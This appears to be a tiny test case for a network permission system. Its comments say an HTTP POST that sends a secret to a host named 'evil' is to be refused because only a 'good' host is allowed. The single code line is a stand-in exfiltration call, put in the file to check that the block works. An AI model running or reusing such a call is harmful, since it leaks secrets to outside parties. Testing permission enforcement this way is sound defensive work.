-- Sends a secret to another host.
-- allow: http POST ${good}/*
-- says: not permitted; to permit it, add this line
http.post(run.evil .. "/" .. run.secret, { body = run.secret })
